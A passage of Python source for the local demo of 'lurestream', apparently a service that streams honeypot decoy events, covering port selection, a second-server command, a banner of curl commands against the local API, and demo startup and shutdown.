                doc.update(changes)
                await self._store(collection, doc)

    async def _orchestrator(self) -> None:
        self.orchestrator_id += 1
        doc = self.orchestrator_doc(self.orchestrator_id, now_ms())
        await self.db.orchestrator_events.insert_one(dict(doc))
        await self.publish(f"orchestrator.{doc['kind']}.{doc['decky_uuid']}", doc["kind"], as_payload(doc))


def _serve_command() -> str:
    """How to run ``lurestream serve`` with the interpreter the demo runs on (whatever the shell's PATH)."""
    script = os.path.join(os.path.dirname(sys.executable), "lurestream")
    if os.access(script, os.X_OK):
        return f"{shlex.quote(script)} serve"
    return f"{shlex.quote(sys.executable)} -m lurestream serve"


def _port_beside(port: int) -> int:
    """The demo's port + 1 when it is free now (easy to remember), else any free port."""
    if 0 < port < 65535:
        with socket.socket() as probe:
            try:
                probe.bind(("127.0.0.1", port + 1))
                return port + 1
            except OSError:
                pass
    return free_port()


def second_server(config: Config, port: int, secret_from_env: bool) -> list[str]:
    """The exact environment and command of a second server beside the demo: same NATS (JetStream stream
    included, so ids and resumes agree), same database, same JWT secret, another port."""
    # a secret the user supplied is never echoed; a random demo secret has to be, or nothing can share it
    secret = '"$LURESTREAM_JWT_SECRET"' if secret_from_env else shlex.quote(config.jwt_secret)
    env = [
        f"LURESTREAM_NATS_URL={shlex.quote(config.nats_url)}",
        f"LURESTREAM_MONGO_URI={shlex.quote(config.mongo_uri)}",
        f"LURESTREAM_MONGO_DB={shlex.quote(config.mongo_db)}",
        f"LURESTREAM_JETSTREAM={shlex.quote(config.jetstream)}",
        f"LURESTREAM_JWT_SECRET={secret}",
        f"LURESTREAM_PORT={_port_beside(port)}",
        f"LURESTREAM_SSE_MAX_PER_USER={config.sse_max_per_user}",
        f"LURESTREAM_LOG_POLL_SECONDS={config.log_poll_seconds:g}",
        f"LURESTREAM_LOG_STATS_SECONDS={config.log_stats_seconds:g}",
        f"LURESTREAM_LOG_HISTOGRAM_MINUTES={config.log_histogram_minutes}",
        "LURESTREAM_DRAIN_SECONDS=1",  # like the demo: Ctrl-C need not wait 30 s
    ]
    secret_note = (
        "as set in your environment"
        if secret_from_env
        else "here the demo's random one; set LURESTREAM_JWT_SECRET before `lurestream demo` to choose it"
    )
    return [
        "Start a second server beside this one: same NATS, MongoDB-wire and JWT secret",
        f"({secret_note}), another port; the dashboard link and tokens work on both:",
        "  " + " ".join(env) + " " + _serve_command(),
    ]


def banner(config: Config, port: int, secret_from_env: bool = False) -> str:
    token = mint_token(config, VIEWER_UUID, ttl=24 * 3600)
    base = f"http://127.0.0.1:{port}/api/v1"
    attacker = f"{base}/attackers/{ATTACKERS[0]['_id']}/events?token={token}"
    return "\n".join(
        [
            "",
            "lurestream demo is running (Ctrl-C stops everything).",
            f"  NATS {config.nats_url}   MongoDB-wire {config.mongo_uri}   database {config.mongo_db}",
            "",
            "Open the live dashboard (signed in as the demo viewer; the token stays in the URL fragment):",
            f"  http://127.0.0.1:{port}/#token={token}",
            "",
            "Watch one attacker:",
            f"  curl -N '{attacker}'",
            "Watch the topology:",
            f"  curl -N '{base}/topologies/{TOPOLOGY_ID}/events?token={token}'",
            "Watch the decoys' interaction logs (DECNET's search language), identities, the orchestrator:",
            f"  curl -N '{base}/stream?search=service:ssh&token={token}'",
            f"  curl -N '{base}/identities/events?token={token}'",
            f"  curl -N '{base}/orchestrator/events/stream?token={token}'",
            "Or trade the token for a single-use ticket first:",
            f"  curl -s -X POST -H 'Authorization: Bearer {token}' {base}/auth/sse-ticket",
            f"Events carry ids (JetStream stream {config.jetstream!r}): stop a curl, then resume where it left off:",
            f"  curl -N -H 'Last-Event-ID: <the last id: seen>' '{attacker}'",
            "",
            *second_server(config, port, secret_from_env),
            "",
        ]
    )


def run_demo(port: int = 8700, rate: float = 3.0, duration: float = 0) -> int:
    """Run the whole demo in the foreground; returns the exit status."""
    from pymongo import MongoClient

    from lurestream.listening import StartupError, listen
    from lurestream.server import serve

    secret_from_env = bool(os.environ.get("LURESTREAM_JWT_SECRET"))
    secret = os.environ["LURESTREAM_JWT_SECRET"] if secret_from_env else secrets.token_urlsafe(48)
    config_from({"jwt_secret": secret})  # a secret too weak stops the demo here, before anything starts
    try:  # bind first: a busy port is the commonest failure, so say so before starting anything
        sockets = listen("127.0.0.1", port, reuse_port=False)
    except StartupError as exc:
        print(f"lurestream demo: {exc}; try --port 0 for any free port")
        return 1
    port = sockets[0].getsockname()[1]
    workdir = tempfile.mkdtemp(prefix="lurestream-demo-")
    nats_svc = nats_server(workdir)
    mongo_svc = mongo_wire_server(workdir)
    try:
        nats_svc.start()
        mongo_svc.start()
        client: MongoClient[dict[str, Any]]
        with MongoClient(mongo_svc.url, serverSelectionTimeoutMS=5000, tz_aware=True) as client:
            seed(client, "decnet")
        config = config_from(
            {
                "port": port,
                "nats_url": nats_svc.url,
                "mongo_uri": mongo_svc.url,
                "mongo_db": "decnet",
                "jwt_secret": secret,
                "keepalive_seconds": 15,
                "jetstream": "lurestream",  # event ids and resume; the hub creates the stream
                "drain_seconds": 1,  # Ctrl-C should not wait the production default of 30 s
                # the dashboard opens 5 streams (logs, three firehoses, one attacker): room for a second tab
                "sse_max_per_user": 10,
                # a snappy demo: rows on screen within a quarter second, counts every 3 s, 5-minute bars
                "log_poll_seconds": 0.25,
                "log_stats_seconds": 3,
                "log_histogram_minutes": 5,
            }
        )
        setup_logging(config.log_level, config.log_format)

        async def main() -> None:
            ready = asyncio.Event()
            server = asyncio.create_task(serve(config, sockets=sockets, ready=ready))
            await ready.wait()
            simulation = Simulation(random.Random())
            publisher = asyncio.create_task(simulation.run(config.mongo_uri, config.mongo_db, config.nats_url, rate))
            print(banner(config, port, secret_from_env), flush=True)
            if duration:
                done, _ = await asyncio.wait({server}, timeout=duration)
                if not done:
                    import signal

                    os.kill(os.getpid(), signal.SIGTERM)
            await server
            publisher.cancel()
            await asyncio.gather(publisher, return_exceptions=True)

        try:
            asyncio.run(main())
        except KeyboardInterrupt:
            pass
        return 0
    except ServiceError as exc:
        print(f"lurestream demo: {exc}")
        return 1
    finally:
        nats_svc.stop()
        mongo_svc.stop()
        shutil.rmtree(workdir, ignore_errors=True)
